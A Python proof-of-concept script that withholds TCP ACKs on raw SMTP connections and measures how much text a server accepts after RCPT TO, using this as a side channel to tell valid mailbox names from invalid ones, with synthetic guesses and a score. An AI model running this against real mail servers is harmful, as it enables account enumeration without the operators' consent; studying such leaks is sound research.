#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""A raw client that acknowledges no reply, and sees by its own ACKs what is said.

    unacknowledged.py CLIENT SERVER DEVICE ROUTER-MAC GUESSES

Ten answers, to MAIL and NOOP, use up what its server may have under way (RFC 6928), so
that the next ones stay there.  Then it guesses, and sends text: a refused guess
fills the server's buffers with errors, and it stops reading.  One guess in three
is right.  Prints how many wrong ones it told from right ones.
"""

import struct
import sys
import time

from pry import ACK, PSH, RST, Conn, Link

TEXT_BYTES = 400000
SEGMENT = 1400


class Mute(Conn):
    """Tells of nothing that it got since it fell silent."""

    def prepare(self):
        self.greet()
        time.sleep(0.2)
        self.acks = False
        self.told = self.rcv_nxt
        self.acked = self.nxt
        self.room = 0
        self.quietly(b"MAIL FROM:<a@example.net>\r\n")
        time.sleep(0.05)
        for _ in range(9):
            self.quietly(b"NOOP\r\n")
            time.sleep(0.01)

    def quietly(self, text):
        self.segment(ACK | PSH, text, ack=self.told)
        self.nxt = (self.nxt + len(text)) % (1 << 32)

    def take(self, tcp, ttl, ident):
        super().take(tcp, ttl, ident)
        ack = struct.unpack("!I", tcp[8:12])[0]
        if hasattr(self, "acked") and tcp[13] & ACK and \
                0 <= (ack - self.acked) % (1 << 32) < 1 << 31:
            self.acked = ack
            self.room = struct.unpack("!H", tcp[14:16])[0]

    def pour(self):
        """Text, as the server has room for it.  Return: how much it took"""
        begin = self.nxt
        end = time.monotonic() + 4
        text = b"x\r\n" * (SEGMENT // 3)
        while time.monotonic() < end and \
                (self.acked - begin) % (1 << 32) < TEXT_BYTES:
            out = (self.nxt - self.acked) % (1 << 32)
            if out + len(text) <= min(self.room, 20000):
                self.quietly(text)
            else:
                time.sleep(0.002)
        took = (self.acked - begin) % (1 << 32)
        return took if took < 1 << 31 else 0


def guess(link, name):
    conn = Mute(link)
    conn.prepare()
    conn.quietly(b"RCPT TO:<%s@example.com>\r\nDATA\r\n" % name)
    time.sleep(0.2)
    took = conn.pour()
    conn.segment(RST | ACK, ack=conn.told)
    return took


def main():
    client, server, device, mac, guesses = sys.argv[1:]
    link = Link(client, server, device, mac)
    wrong = falsely = 0
    for i in range(1, int(guesses) + 1):
        name = b"user%d" % i if i % 3 == 0 else b"nobody%d" % i
        took = guess(link, name)
        print("%s %d" % (name.decode(), took), file=sys.stderr)
        wrong += took < TEXT_BYTES and i % 3 != 0
        falsely += took < TEXT_BYTES and i % 3 == 0
    print(max(0, wrong - 2 * falsely))


main()
